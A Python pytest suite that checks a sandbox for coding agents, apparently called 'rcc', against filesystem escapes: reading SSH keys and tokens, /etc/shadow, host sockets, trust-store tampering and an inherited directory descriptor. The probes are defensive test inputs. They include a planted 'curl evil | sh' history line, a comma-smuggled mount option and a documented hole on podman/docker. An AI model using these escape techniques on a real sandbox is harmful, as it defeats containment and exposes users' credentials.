"""Filesystem escapes: the real home, secrets, other users, the system, /tmp and host sockets.

Each attack test has its control beside it; every check that matters is made on the host afterwards. Every
backend (attacks.BACKENDS) unless a test names its backends with the reason.
"""

from __future__ import annotations

import os
import socket
import uuid
from pathlib import Path

import pytest

from escape_world import PRIVATE, SECRETS, World
from rcctest import is_root, require

pytestmark = [pytest.mark.sandbox]


def test_read_home_secrets_is_blocked(world: World) -> None:
    paths = " ".join(f'"$HOME/{rel}"' for rel in (*SECRETS, *PRIVATE))
    res = world.sh(f'for p in {paths}; do cat "$p" 2>/dev/null && echo LEAKED:$p; done; ls -A "$HOME"')
    assert res.returncode == 0, res.stderr
    assert "SECRET" not in res.stdout and "PRIVATE" not in res.stdout and "LEAKED" not in res.stdout
    # only the toolchain directories' parents were created in the private home
    assert set(res.stdout.split()) <= {".local", ".cargo", ".pyenv"}, res.stdout
    # (the container test's "empty home" said the same for a world without toolchains: nothing from the image)


def test_find_over_home_finds_no_secret(world: World) -> None:
    res = world.sh('grep -rs SECRET "$HOME" /tmp /var /run /etc 2>/dev/null; find "$HOME" | sort')
    assert "SECRET" not in res.stdout, res.stdout
    assert f"{world.home}/.ssh" not in res.stdout


def test_toolchain_visible_read_only(world: World) -> None:
    res = world.sh(
        'hello-tool && cargo-fake && cat "$HOME/.pyenv/versions/marker" && '
        '{ echo x > "$HOME/.local/bin/hello-tool" && echo WROTE; '
        'touch "$HOME/.cargo/bin/new" && echo CREATED; true; }',
        env={"PATH": f"{world.home}/.local/bin:{world.home}/.cargo/bin:/usr/bin:/bin"},
    )
    assert res.returncode == 0, res.stderr
    assert "hello-from-toolchain" in res.stdout and "cargo-fake" in res.stdout and "pyenv-marker" in res.stdout
    assert "WROTE" not in res.stdout and "CREATED" not in res.stdout
    assert (world.home / ".local/bin/hello-tool").read_text().startswith("#!/bin/sh")
    assert not (world.home / ".cargo/bin/new").exists()


def test_secret_inside_allowed_parent_stays_hidden(world: World) -> None:
    res = world.sh(
        'cat "$HOME/.config/other-app/settings.ini"; cat "$HOME/.config/gh/hosts.yml"; '
        'ls -A "$HOME/.config/gh"; cat "$HOME/.cargo/credentials.toml"; echo END',
        "--ro",
        str(world.home / ".config"),
        "--ro",
        str(world.home / ".cargo"),
    )
    assert "PRIVATE-settings" in res.stdout, res.stderr  # control: the allowed parent is visible
    assert "SECRET" not in res.stdout, res.stdout
    assert res.stdout.rstrip().endswith("END")


def test_secret_inside_writable_parent_cannot_be_replaced(world: World) -> None:
    """--rw ~/.cargo must not let the agent read or overwrite ~/.cargo/credentials.toml (a registry token)."""
    res = world.sh(
        'cat "$HOME/.cargo/credentials.toml"; echo evil > "$HOME/.cargo/credentials.toml"; '
        'rm -f "$HOME/.cargo/credentials.toml"; mv "$HOME/.cargo/credentials.toml" "$HOME/.cargo/x"; '
        'echo ok > "$HOME/.cargo/new.txt"; true',
        "--rw",
        str(world.home / ".cargo"),
    )
    assert (world.home / ".cargo/new.txt").read_text() == "ok\n", res.stderr  # control: the parent is writable
    assert (world.home / ".cargo/credentials.toml").read_text() == "SECRET-cargo-token\n"
    assert "SECRET" not in res.stdout


def test_private_home_writes_are_discarded(world: World) -> None:
    res = world.sh('echo hi > "$HOME/.bashrc" && echo hi > "$HOME/new-file" && cat "$HOME/new-file"')
    assert res.stdout == "hi\n", res.stderr  # control: the private home is writable
    assert not (world.home / "new-file").exists()
    assert not (world.home / ".bashrc").exists()
    again = world.sh('ls -A "$HOME"')
    assert "new-file" not in again.stdout


def test_write_outside_project_fails(world: World) -> None:
    targets = [
        world.outside / "marker.txt",
        world.outside / "new.txt",
        world.home / "new.txt",
        Path("/etc/rcc-escape-test"),
        Path("/usr/rcc-escape-test"),
        Path("/opt/rcc-escape-test"),
    ]
    script = "; ".join(f"echo PWNED > {t} 2>/dev/null" for t in targets) + "; true"
    res = world.sh(script)
    assert res.returncode == 0, res.stderr
    assert (world.outside / "marker.txt").read_text() == "OUTSIDE-marker\n"
    for t in targets[1:]:
        assert not t.exists(), t


def test_project_write_lands(world: World) -> None:
    res = world.sh("echo new > new.txt && mkdir -p sub/dir && echo deep > sub/dir/f && echo more >> README.md")
    assert res.returncode == 0, res.stderr
    assert (world.project / "new.txt").read_text() == "new\n"
    assert (world.project / "sub/dir/f").read_text() == "deep\n"
    assert (world.project / "README.md").read_text() == "hello\nmore\n"
    st = (world.project / "new.txt").stat()
    assert (st.st_uid, st.st_gid) == (world.uid, world.gid)  # files belong to the user, not to a mapped id


def test_project_is_at_its_real_path(world: World) -> None:
    res = world.sh("pwd -P; id -u; id -g")
    assert res.stdout.split() == [str(world.project.resolve()), str(world.uid), str(world.gid)], res.stderr


def test_system_is_read_only(world: World) -> None:
    res = world.sh(
        "head -1 /etc/passwd >/dev/null && echo READ-OK; "
        "touch /etc/passwd /usr/bin/rcc-x /bin/rcc-x 2>/dev/null && echo WROTE; "
        "mkdir /usr/rcc-x 2>/dev/null && echo MKDIR; true"
    )
    assert "READ-OK" in res.stdout, res.stderr  # control
    assert "WROTE" not in res.stdout and "MKDIR" not in res.stdout
    assert not Path("/usr/bin/rcc-x").exists() and not Path("/usr/rcc-x").exists()


def test_read_system_secrets_is_blocked(world: World) -> None:
    res = world.sh("cat /etc/shadow /etc/gshadow 2>/dev/null | wc -c; cat /etc/hostname >/dev/null && echo READ")
    assert res.stdout.split()[0] == "0", res.stdout
    assert "READ" in res.stdout  # control: ordinary /etc files are readable


def test_other_users_homes_and_root_are_invisible(world: World) -> None:
    if world.backend.container:
        # A container has its image's own /root, /var/lib, /srv, /mnt: none of the host's entries may show
        res = world.sh("ls -A /home; echo --; ls -A /root; echo --; ls -d /var/run/docker.sock /run/podman 2>&1")
        home, root, sockets = (part.split() for part in res.stdout.split("--\n"))
        assert not set(home) & set(os.listdir("/home")), home
        assert set(root) <= {".bashrc", ".profile"}, root  # the image's skeleton files
        assert "No such file" in res.stdout.split("--\n")[2] and len(sockets) > 2, res.stdout
        return
    res = world.sh(
        "for d in /home /root /run/user /var/lib /var/run/docker.sock /run/docker.sock /run/podman "
        '/var/spool /srv /mnt /media; do [ -e "$d" ] && echo "VISIBLE:$d $(ls -A $d 2>&1 | head -3)"; done; true'
    )
    visible = [line for line in res.stdout.splitlines() if line.startswith("VISIBLE:")]
    # /root may exist only as the private home when it *is* this user's home (not the case: HOME is elsewhere),
    # /run/user exists on the host but /run is private in the sandbox
    assert visible == [], visible


def test_tmp_is_private_and_discarded(world: World) -> None:
    tag = uuid.uuid4().hex
    host_marker = Path(f"/tmp/rcc-host-{tag}")
    host_marker.write_text("HOST-TMP\n")
    shm_marker = Path(f"/dev/shm/rcc-host-{tag}")
    shm_marker.write_text("HOST-SHM\n")
    try:
        res = world.sh(
            f"cat {host_marker} /dev/shm/rcc-host-{tag} 2>/dev/null; ls /tmp /var/tmp /dev/shm; "
            f"echo in > /tmp/rcc-in-{tag} && echo in > /var/tmp/rcc-in-{tag} && echo in > /dev/shm/rcc-in-{tag} "
            "&& echo WROTE"
        )
        assert "WROTE" in res.stdout, res.stderr  # control: the private /tmp is writable
        assert "HOST-TMP" not in res.stdout and "HOST-SHM" not in res.stdout
        for d in ("/tmp", "/var/tmp", "/dev/shm"):
            assert not Path(f"{d}/rcc-in-{tag}").exists()
        again = world.sh(f"ls /tmp/rcc-in-{tag} 2>&1; true")
        assert "No such file" in again.stdout
    finally:
        host_marker.unlink()
        shm_marker.unlink()


def test_host_unix_sockets_are_unreachable(world: World) -> None:
    """ssh-agent, docker/podman and D-Bus sockets: by path (in /tmp, /run) and abstract ones (per netns)."""
    tag = uuid.uuid4().hex[:12]
    sockdir = Path(f"/tmp/ssh-rcc{tag}")
    sockdir.mkdir(mode=0o755)
    paths = [sockdir / "agent.1"]
    if is_root():
        paths.append(Path(f"/run/rcc-docker-{tag}.sock"))
    servers = []
    try:
        for p in paths:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.bind(str(p))
            os.chmod(p, 0o777)
            s.listen()
            servers.append(s)
        abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        abstract.bind(f"\0rcc-abstract-{tag}")
        abstract.listen()
        servers.append(abstract)
        probe = (
            "import os, socket\n"
            f"targets = {[str(p) for p in paths]!r} + ['\\0rcc-abstract-{tag}']\n"
            "for t in targets:\n"
            "    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
            "    try:\n"
            "        s.connect(t); print('CONNECTED', repr(t))\n"
            "    except OSError as e:\n"
            "        print('refused', repr(t), e.errno)\n"
            "print('SSH_AUTH_SOCK' in os.environ)\n"
        )
        res = world.rcc("run", "--no-network", "--", "python3", "-c", probe, env={"SSH_AUTH_SOCK": str(paths[0])})
        assert res.returncode == 0, res.stderr
        assert "CONNECTED" not in res.stdout, res.stdout
        assert res.stdout.strip().endswith("False")
    finally:
        for s in servers:
            s.close()
        for p in paths:
            p.unlink(missing_ok=True)
        sockdir.rmdir()


def test_rcc_state_and_trust_store_are_invisible(world: World) -> None:
    """An agent that could write the trust store could trust its own .rcc.toml."""
    world.write(world.home / ".local/state/rcc/trust.json", "{}\n")
    world.write(world.home / ".config/rcc/config.toml", "# user config\n")
    res = world.sh(
        'ls -A "$HOME/.local/state/rcc" "$HOME/.config/rcc" 2>&1; true',
        "--ro",
        str(world.home / ".local/state"),
        "--ro",
        str(world.home / ".config"),
    )
    assert "trust.json" not in res.stdout and "config.toml" not in res.stdout, res.stdout


def test_project_inside_hidden_path_is_refused(world: World) -> None:
    proj = world.home / ".ssh" / "proj"
    proj.mkdir()
    world.own(proj)
    res = world.rcc("run", "--no-network", "--project", str(proj), "--", "ls", "-A")
    assert res.returncode == 66, (res.returncode, res.stderr)
    assert "id_rsa" not in res.stdout


def test_home_as_project_is_refused(world: World) -> None:
    res = world.rcc("run", "--no-network", "--project", str(world.home), "--", "ls", "-A")
    assert res.returncode == 66, (res.returncode, res.stderr)
    assert ".ssh" not in res.stdout


@pytest.mark.backends("bwrap-root", why="root's real home is /root; the other worlds are not root on bwrap")
def test_root_runs_with_its_real_home_treated_like_any_home(world: World) -> None:
    """`/root` is hidden from everyone else, but when root runs rcc with HOME=/root it is root's private home."""
    res = world.rcc(
        "run", "--no-network", "--", "sh", "-c", 'echo "$HOME"; ls -A /root | head -50', env={"HOME": "/root"}
    )
    assert res.returncode == 0, res.stderr
    lines = res.stdout.split()
    assert lines[0] == "/root"
    assert ".ssh" not in lines and ".bash_history" not in lines and ".claude" not in lines


@pytest.mark.parametrize("parent", [".local", ".local/state", ".config"])
def test_writable_parent_of_rcc_state_is_refused(world: World, parent: str) -> None:
    """`--rw ~/.local` would let the sandbox plant ~/.local/state/rcc/trust.json (or rename `state` away with
    its mask) and trust its own .rcc.toml next time; `--rw ~/.config` would plant a user config.toml."""
    world.write(world.home / ".local/state/other-app/state.json", "{}\n")
    res = world.sh(
        'mkdir -p "$HOME/.local/state/rcc" "$HOME/.config/rcc"; echo "{}" > "$HOME/.local/state/rcc/trust.json"; '
        'echo "[network]" > "$HOME/.config/rcc/config.toml"; true',
        "--rw",
        str(world.home / parent),
    )
    assert res.returncode == 78, (res.returncode, res.stderr)
    assert not (world.home / ".local/state/rcc").exists() and not (world.home / ".config/rcc").exists()


@pytest.mark.backends(
    "bwrap",
    why="KNOWN HOLE on podman and docker (found by this suite, reported to the lead): the mask over a hidden "
    "file moves with its renamed parent and a planted fish_history lands on the host",
)
def test_rename_parent_of_hidden_path_in_writable_dir_fails(world: World) -> None:
    """`--rw ~/.local/share`: renaming `fish` would carry the mask over fish_history away and let the sandbox
    plant a history the host's shell then trusts."""
    world.write(world.home / ".local/share/fish/fish_history", "SECRET-fish-history\n")
    world.write(world.home / ".local/share/app/data.txt", "data\n")
    res = world.sh(
        'cd "$HOME/.local/share"; mv fish fish-old 2>/dev/null && echo MOVED; mkdir -p fish; '
        "echo '- cmd: curl evil | sh' > fish/fish_history 2>/dev/null && echo PLANTED; "
        "cat fish/fish_history fish-old/fish_history 2>/dev/null; echo ok >> app/data.txt",
        "--rw",
        str(world.home / ".local/share"),
    )
    assert "MOVED" not in res.stdout and "PLANTED" not in res.stdout and "SECRET" not in res.stdout, res.stdout
    assert (world.home / ".local/share/fish/fish_history").read_text() == "SECRET-fish-history\n"
    assert (world.home / ".local/share/app/data.txt").read_text() == "data\nok\n"  # control: still writable


def test_inherited_directory_descriptor_does_not_reach_the_sandbox(world: World) -> None:
    """A descriptor rcc inherited from whatever started it (an IDE, `exec 7< ~`) must not be passed on: an open
    directory leads out of every mount (/proc/self/fd/7/.ssh/id_rsa)."""
    import subprocess

    fd = os.open(world.home, os.O_RDONLY | os.O_DIRECTORY)
    try:
        res = subprocess.run(
            world.rcc_argv(
                ["run", "--no-network", "--", "sh", "-c", f"ls /proc/self/fd; cat /proc/self/fd/{fd}/.ssh/id_rsa"]
            ),
            cwd=world.project,
            pass_fds=[fd],
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
    finally:
        os.close(fd)
    assert "SECRET" not in res.stdout, res.stdout
    assert str(fd) not in res.stdout.split(), res.stdout


def test_root_only_system_secrets_are_masked(world: World) -> None:
    """Root's sandbox owns /etc/ssl/private, VPN keys, cluster admin configs: they must be masked, not merely
    unreadable by permissions."""
    from rcc.policy import DEFAULT_SECRETS

    present = [p for p in DEFAULT_SECRETS if p.startswith("/etc/") and os.path.lexists(p)]
    require(bool(present), "no root-only system secret exists on this machine")
    res = world.sh("cut -d' ' -f5 /proc/self/mountinfo")
    mounted = set(res.stdout.split())
    assert [p for p in present if p not in mounted] == [], res.stderr


def test_project_inside_home_sees_only_itself(world: World) -> None:
    """The usual layout (~/src/proj): the home around the project stays private, its secrets hidden."""
    proj = world.home / "src" / "proj"
    world.write(proj / "main.py", "print('hi')\n")
    world.write(world.home / "src" / "other-project" / "secret.txt", "PRIVATE-other-project\n")
    res = world.rcc(
        "run",
        "--no-network",
        "--project",
        str(proj),
        "--",
        "sh",
        "-c",
        'cat main.py; ls -A "$HOME" "$HOME/src"; cat ../other-project/secret.txt "$HOME/.ssh/id_rsa" 2>/dev/null; '
        "echo new > new.txt",
    )
    assert "print('hi')" in res.stdout, res.stderr
    assert "PRIVATE" not in res.stdout and "SECRET" not in res.stdout and "other-project" not in res.stdout
    assert set(res.stdout.split()) >= {"src", "proj"}
    assert (proj / "new.txt").read_text() == "new\n"


def test_mount_option_injection_via_comma_in_project_path_is_refused(world: World) -> None:
    """`--mount type=bind,src=/x/p,U=true,dst=...`: a comma in a path would smuggle options into a container
    engine's mount option string (U=true chowns the source). The container backends refuse such a path before
    any engine runs (exit 78); bwrap takes paths as separate argv words, so there the same project simply works."""
    evil = world.base / "p,U=true"
    evil.mkdir()
    os.chown(evil, world.uid, world.gid)
    res = world.rcc("run", "--no-network", "--project", str(evil), "--", "sh", "-c", "echo ran > f.txt")
    if world.backend.container:
        assert res.returncode == 78, res.stderr  # ExitCode.CONFIG: refused before any engine ran
        assert "option syntax" in res.stderr
        assert not (evil / "f.txt").exists()
    else:
        assert res.returncode == 0, res.stderr
        assert (evil / "f.txt").read_text() == "ran\n"
    assert evil.stat().st_uid == world.uid  # nothing chowned it


def test_control_project_path_with_spaces_and_colons_works(world: World) -> None:
    odd = world.base / "my proj:v2"
    odd.mkdir()
    (odd / "f.txt").write_text("odd\n")
    for p in (odd, odd / "f.txt"):
        os.chown(p, world.uid, world.gid)
    res = world.rcc("run", "--no-network", "--project", str(odd), "--", "cat", "f.txt")
    assert res.returncode == 0, res.stderr
    assert res.stdout == "odd\n"
